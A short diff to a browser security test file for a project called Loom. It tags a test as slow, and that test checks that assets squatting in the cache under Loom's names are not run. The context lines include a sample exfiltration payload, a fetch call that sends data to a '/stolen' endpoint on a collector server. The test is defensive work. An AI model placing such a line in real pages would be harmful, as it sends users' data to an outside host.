@@ -117,7 +117,7 @@ test('assets left in the cache under the names of Loom’s own are not run', asy
   await place.leave();
 });
 
-test('nor are those that Loom loads later', async ({ page }) => {
+test('nor are those that Loom loads later', { tag: '@slow' }, async ({ page }) => {
   const { brought, place } = await collector();
   const steal = `fetch('${place.origin}/stolen', { mode: 'no-cors' });`;
   const squatter = await Squatter.on(0, (request, response) => {
